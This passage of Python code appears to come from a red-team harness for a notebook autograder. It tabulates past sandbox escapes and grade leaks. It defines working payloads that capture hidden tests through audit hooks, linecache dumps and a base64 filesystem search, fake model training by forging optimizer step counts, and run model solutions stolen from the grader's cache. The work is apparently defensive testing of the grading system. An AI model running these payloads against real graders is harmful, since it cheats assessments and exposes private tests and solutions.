        "deserved": 0,
        "autograded": "16/16 of Part 1",
        "held": False,
        "needs_review": False,
    },
    "n2-split": {
        "points": 2,
        "of": 2,
        "deserved": 0,
        "autograded": "10/10 of Part 2",
        "held": False,
        "needs_review": False,
    },
    "h3-audit": {
        "leaked": "33 of 33 hidden-test lines of Part 1, base64 in the student's feedback page",
        "held": False,
        "needs_review": False,
    },
    "h3-linecache": {
        "leaked": "33 of 33 hidden-test lines of Part 1, reversed in the student's feedback page",
        "held": False,
        "needs_review": False,
    },
    "h4-history-p1": {
        "points": 1,
        "of": 1,
        "deserved": 0,
        "autograded": "16/16 of Part 1",
        "held": False,
        "needs_review": False,
    },
    "h4-history-p2": {
        "points": 2,
        "of": 2,
        "deserved": 0,
        "autograded": "10/10 of Part 2",
        "held": False,
        "needs_review": False,
    },
    "k5-keyring": {
        "escaped": "kernel 2 (new sandbox, same slot, uid 62000) read kernel 1's note; "
        "the key outlived both on the host (/proc/key-users)"
    },
    "k5-keyring-class": {
        "escaped": "the 2nd student's feedback shows the note the 1st student's kernel left",
        "held": False,
        "needs_review": False,
    },
    "k5-userns": {
        "escaped": "unshare(CLONE_NEWUSER|CLONE_NEWNS) ok; uid 0 with CapEff 000001ffffffffff "
        "inside; mount tmpfs ok"
    },
    "k5-syscalls": {
        "escaped": "perf_event_open ok, io_uring_setup ok, userfaultfd(UFFD_USER_MODE_ONLY) ok, "
        "ptrace(PTRACE_ATTACH) ok; bpf refused (EPERM, by the host's sysctl)"
    },
    "o6-cells": {
        "leaked": "59.4 MiB of output kept for one notebook (32 cells x 1.9 MiB), "
        "no truncation noted"
    },
    "o6-sockets": {
        "escaped": "3.00 GiB written to the host through the socket folder (the host saw it), "
        "while /tmp stopped at 1.00 GiB"
    },
    "o6-one-message": {
        "leaked": "the grader's peak memory +625 MiB (886 vs 261 MiB) for one 256 MiB message, "
        "of which it kept nothing"
    },
    "l7-beatme-lookalike": {
        "earned": "Lisu 'BEAT ME' scored and ranked 2nd, above the real BEAT ME row; key 'ꓐꓰꓮꓔꓟꓰ'"
    },
    "l7-twins": {
        "earned": "10 uploads scored on one day for 'ADAM' as shown (limit 5): 2 teams, 2 rows"
    },
    "l7-lookup": {
        "earned": "100.00 % public and private, rank 1, beats BEAT ME (85.28 % private); "
        "all 10,500 images found"
    },
    "l7-claim": {
        "points": 2,
        "of": 2,
        "deserved": 0,
        "leaderboard": "2 leaderboard points for team 'Lookup' in grades_lms.csv",
        "held": False,
    },
    # controls
    "c-empty": {"points": 0, "of": 26, "autograded": "0/26"},
    "c-256": {"points": 0, "of": 3, "autograded": "13/16 of Part 1"},
    "c-split": {"points": 0, "of": 2, "autograded": "8/10 of Part 2"},
}
assert set(OLD_EFFECT) == set(BY_ID)

# ---- one step further: the same classes, aimed at what the new design still takes from the kernel
# Not part of WAVE (they were not run on the old code; each is a superset of an attack above that
# already got through there). The new design judges in a checker, so these listen to everything
# the student's kernel is asked (h3-*-wide), search every file it can read (h3-files), and forge
# the one fact of training the kernel reports itself, the optimizer's step count (h4-*-steps).
# The new grading runs no cell after a notebook's last test, and of the cells before it only those
# a test depends on, solution cells and cells it cannot read (exec, magics): class 3's print
# cells go just before Part 1's last test (test_training_hidden), disguised as exec(...).

CORRECT_PREPROCESS = WRONG_SCALE.replace("256.0)", "255.0)").replace("  # wrong: 256, not 255", "")

AUDIT_EVERYTHING = r"""
import sys

_heard = []


def _listen(event, args):
    # Every source the kernel compiles that is not one of the student's own cells: the
    # checker's questions (user expressions) included. At most about 1 MiB of it.
    try:
        if event == "compile" and len(args) > 1 and len(_heard) < 400:
            name = str(args[1])
            if "ipykernel_" in name or "ipython-input" in name:
                return
            source = args[0].decode() if isinstance(args[0], bytes) else args[0]
            if isinstance(source, str):
                _heard.append((name, source[:2500]))
    except Exception:
        pass


sys.addaudithook(_listen)
"""
LINECACHE_EVERYTHING = r"""
import linecache
import os

for _name in sorted(linecache.cache):
    if "ipykernel_" in _name or "ipython-input" in _name or os.path.exists(_name):
        continue  # the student's own cells, and files anyone can read
    _text = "".join(linecache.cache[_name][2])
    print("reversed:", _text[::-1].replace("\n", "\\n")[:100_000])
"""
FILES_WITH_TESTS = r"""
import base64
import os

_seen = 0
for _top in ("/home", "/tmp", "/work", "/root", "/srv", "/opt", "/var", "/mnt", "/run"):
    for _folder, _subfolders, _files in os.walk(_top):
        if "site-packages" in _folder or "/lib/python3" in _folder:
            _subfolders[:] = []  # installed libraries: nothing of this course
            continue
        for _file in _files:
            _path = os.path.join(_folder, _file)
            try:
                if not os.path.isfile(_path) or os.path.getsize(_path) > 64 << 20:
                    continue
                _data = open(_path, "rb").read()
            except OSError:
                continue
            _seen += 1
            if b"HIDDEN TESTS" in _data or _file.endswith(".ipynb"):
                print("found file:", _path, base64.b64encode(_data[:300_000]).decode())
print("searched", _seen, "readable files")
"""
HANDMADE_HISTORY_AND_STEPS = (
    HANDMADE_HISTORY
    + "lenet5.optimizer.iterations.assign(EPOCHS * -(-len(x_fit) // 64))  # what fit would count\n"
)
FIT_THAT_COUNTS_STEPS = FIT_THAT_DOES_NOT_TRAIN.replace(
    "        return history\n",
    "        model.optimizer.iterations.assign(epochs * 10)  # the steps fit would have taken\n"
    "        return history\n",
)

EXTRAS = [
    Attack(
        "h3-audit-wide",
        3,
        "h3-audit, listening to every source the kernel compiles that is not the student's own "
        "cell (the checker's questions among them), on a complete Part 1 so that every test asks",
        "the checker's questions reach the student's kernel as user expressions",
        "grade",
        "the source of Part 1's hidden tests in the student's feedback",
        base="solutions",
        part1=NotebookEdit(
            cells={"preprocess": AUDIT_EVERYTHING + CORRECT_PREPROCESS},
            insert_before=[("test_training_hidden", disguised(AUDIT_PRINT))],
        ),
    ),
    Attack(
        "h3-linecache-wide",
        3,
        "h3-linecache, printing every linecache entry that is not the student's own cell or a "
        "file anyone can read, just before the last test of a complete Part 1",
        "anything the checker makes the kernel compile may be left in linecache",
        "grade",
        "the source of Part 1's hidden tests in the student's feedback",
        base="solutions",
        part1=NotebookEdit(
            insert_before=[("test_training_hidden", disguised(LINECACHE_EVERYTHING))]
        ),
    ),
    Attack(
        "h3-files",
        3,
        "Every file the kernel can read (outside installed libraries) is searched for "
        "'HIDDEN TESTS' and for notebooks; what it finds is printed base64",
        "a copy of the source or autograded notebook within the sandbox's reach",
        "grade",
        "the source of Part 1's hidden tests in the student's feedback",
        base="solutions",
        part1=NotebookEdit(insert_before=[("test_training_hidden", disguised(FILES_WITH_TESTS))]),
    ),
    Attack(
        "h4-history-p1-steps",
        4,
        "h4-history-p1, and the optimizer's step counter set to what fit would have counted",
        "the new check_trained believes the step count the kernel reports "
        "(optimizer.iterations), a variable the notebook can assign",
        "grade",
        "the point of test_training_hidden without training",
        base="solutions",
        part1=NotebookEdit(cells={"training": HANDMADE_HISTORY_AND_STEPS}),
        target_tests=("test_training_hidden",),
    ),
    Attack(
        "h4-history-p2-steps",
        4,
        "h4-history-p2, and the fake fit sets the optimizer's step counter too",
        "as h4-history-p1-steps, for test_fashion_model_hidden's check_trained",
        "grade",
        "the 2 points of test_fashion_model_hidden without training",
        base="solutions",
        part2=NotebookEdit(cells={"fashion_model": FIT_THAT_COUNTS_STEPS}),
        target_tests=("test_fashion_model_hidden",),
    ),
]
EXTRA_BY_ID = {attack.id: attack for attack in EXTRAS}
assert not set(EXTRA_BY_ID) & set(BY_ID)

# What h3-files found on the machine of the first run: the grader copies its whole dataset cache
# (~/.cache/coursekit, private files included) into every sandbox, and there the student-path
# tests keep a student folder with both notebooks *solved*. An empty Part 1 that runs the
# solutions it finds there:
STEAL = r'''
import glob as _glob
import json as _json


def _stolen_cells():
    """Solution cells of any solved Part 1 notebook the kernel can read, by grade id."""
    found = {}
    for _path in _glob.glob("/tmp/**/1_lenet5_mnist*.ipynb", recursive=True):
        try:
            cells = _json.load(open(_path))["cells"]
        except (OSError, ValueError, KeyError):
            continue
        for cell in cells:
            grade_id = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")
            source = "".join(cell.get("source", ""))
            solved = "BEGIN SOLUTION" in source and "NotImplementedError" not in source
            if grade_id and solved:
                found.setdefault(grade_id, source)
    return found


_STOLEN = _stolen_cells()
print("STOLEN", sorted(_STOLEN))
'''
STEAL_CELL = 'exec(_STOLEN["{0}"]) if "{0}" in _STOLEN else None\n'
EXTRAS.append(
    Attack(
        "h3-cache-solutions",
        3,
        "Part 1 left empty; each solution cell runs the model solution found in a solved "
        "notebook in the grading cache that every sandbox can read",
        "the grader binds a copy of its whole dataset cache (~/.cache/coursekit) into the "
        "sandbox, whatever else the instructor's machine keeps there",
        "grade",
        "Part 1's 14 autograded points for an empty notebook",
        part1=NotebookEdit(
            cells={
                grade_id: (STEAL if grade_id == "preprocess" else "") + STEAL_CELL.format(grade_id)
                for grade_id in PART1_SOLUTIONS
            }
        ),
        target_tests=PART1_TESTS,
    )
)
EXTRA_BY_ID = {attack.id: attack for attack in EXTRAS}
